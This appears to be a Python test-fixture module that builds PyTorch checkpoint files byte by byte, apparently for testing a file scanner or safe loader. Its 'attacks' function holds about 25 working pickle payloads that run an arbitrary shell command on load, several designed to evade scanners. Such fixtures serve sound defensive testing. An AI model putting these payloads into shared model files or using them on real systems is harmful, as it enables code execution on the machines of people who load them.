"""Torch files made from bytes: pickles from opcodes, attacks, zips with any entry, tensors that need not be true."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections import OrderedDict

import torch


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def attacks(command):
    """One pickle for each way to call a function, and for each published way around a scanner."""
    system, run = b"cos\nsystem\n", text(command)
    code = text(f"__import__('os').system({command!r})")
    return {
        "reduce": b"\x80\x02" + system + run + b"\x85R.",
        "posix": b"\x80\x02cposix\nsystem\n" + run + b"\x85R.",
        "inst": b"\x80\x02(" + run + b"ios\nsystem\n.",
        "obj": b"\x80\x02(" + system + run + b"o.",
        "newobj": b"\x80\x02csubprocess\nPopen\n" + text("/bin/sh") + text("-c") + run + b"\x87\x85\x81.",
        "newobj_ex": b"\x80\x04csubprocess\nPopen\n" + run + b"\x85}" + text("shell") + b"\x88s\x92.",
        "build": b"\x80\x02ctypes\nSimpleNamespace\n)R}" + text("__setstate__") + system + b"sb" + run + b"b.",
        "eval": b"\x80\x02cbuiltins\neval\n" + code + b"\x85R.",
        "exec": b"\x80\x02cbuiltins\nexec\n" + code + b"\x85R.",
        "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93" + run + b"\x85R.",
        "computed name": b"\x80\x04cbuiltins\ngetattr\n" + text("") + text("join") + b"\x86R]" + text("o") + b"a"
        + text("s") + b"a\x85R" + text("system") + b"\x93" + run + b"\x85R.",
        "dotted name": b"\x80\x04" + text("sys") + text("modules") + b"\x93q\x000" + text("os") + text("__dict__.get")
        + b"\x93" + text("system") + b"\x85R" + run + b"\x85R.",
        "getattr": b"\x80\x04cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text("os") + b"\x85R" + text("system")
        + b"\x86R" + run + b"\x85R.",
        "runpy": b"\x80\x02crunpy\n_run_code\n" + code + b"}\x86R.",
        "popen": b"\x80\x02csubprocess\ngetoutput\n" + run + b"\x85R.",
        "pydoc": b"\x80\x02cpydoc\npipepager\n" + text("") + run + b"\x86R.",
        "map": b"\x80\x02cbuiltins\nlist\ncbuiltins\nmap\n" + system + b"]" + run + b"a\x86R\x85R.",
        "loads": b"\x80\x02c_pickle\nloads\n" + inner(command) + b"\x85R.",
        "torch": b"\x80\x02ctorch.serialization\nos.system\n" + run + b"\x85R.",
        "then broken": b"\x80\x02" + system + run + b"\x85R0\xff",
        "in a list": b"\x80\x02]" + system + run + b"\x85Ra.",
        "in a key": b"\x80\x02}" + system + run + b"\x85RK\x01s.",
        "in a reference": b"\x80\x02" + system + run + b"\x85RQ.",
        "text protocol": b"(S'" + command.encode() + b"'\nios\nsystem\n.",
        "old protocol": b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.",
    }  # fmt: skip


def inner(command):
    """Bytes that are a pickle again, as an argument."""
    data = b"cos\nsystem\n(S'" + command.encode() + b"'\ntR."
    return b"B" + struct.pack("<I", len(data)) + data


class Reference:
    """A storage that a pickle refers to."""

    def __init__(self, key="0", kind=torch.FloatStorage, numel=4, word="storage", more=()):
        self.identity = (word, kind, key, "cpu", numel, *more)


class Rebuilt:
    """A call of torch's, with any arguments."""

    def __init__(self, *arguments, function=torch._utils._rebuild_tensor_v2):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def tensor(reference=None, offset=0, shape=(2, 2), stride=(2, 1), metadata=()):
    return Rebuilt(reference or Reference(), offset, shape, stride, False, OrderedDict(), *metadata)


def pickle_bytes(content):
    """A pickle with references to storages, as torch writes it."""

    class Pickler(pickle.Pickler):
        def persistent_id(self, value):
            return value.identity if isinstance(value, Reference) else None

    buffer = io.BytesIO()
    Pickler(buffer, protocol=2).dump(content)
    return buffer.getvalue()


def torch_zip(pickled, storages=None, extra=None, **options):
    """A zip as torch.save writes it, of a pickle (bytes, or what to pickle), storages by key and other entries."""
    pickled = pickled if isinstance(pickled, bytes) else pickle_bytes(pickled)
    storages = {"0": struct.pack("<4f", 1, 2, 3, 4)} if storages is None else storages
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", **options) as archive:
        archive.writestr("x/data.pkl", pickled)
        archive.writestr("x/version", "3\n")
        archive.writestr("x/byteorder", "little")
        for key, data in storages.items():
            archive.writestr(f"x/data/{key}", data)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def legacy(content, storages=None, keys=None, system=None):
    """A file as torch.save wrote it before 1.6; `storages`: key -> (elements, bytes)."""
    storages = {"0": (4, struct.pack("<4f", 1, 2, 3, 4))} if storages is None else storages
    rows = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True} if system is None else system]
    head = b"".join(pickle.dumps(row, 2) for row in rows)
    content = content if isinstance(content, bytes) else pickle_bytes(content)
    keys = pickle.dumps(list(storages) if keys is None else keys, 2)
    return head + content + keys + b"".join(struct.pack("<q", n) + data for n, data in storages.values())


def saved(content, **options):
    """The bytes that torch.save writes."""
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def pickle_of(data):
    """The pickle in a zip that torch.save wrote."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return archive.read(next(name for name in archive.namelist() if name.endswith("/data.pkl")))


def storages_of(data):
    """Its storages, by key."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {n.rpartition("/")[2]: archive.read(n) for n in archive.namelist() if n.split("/")[1] == "data"}
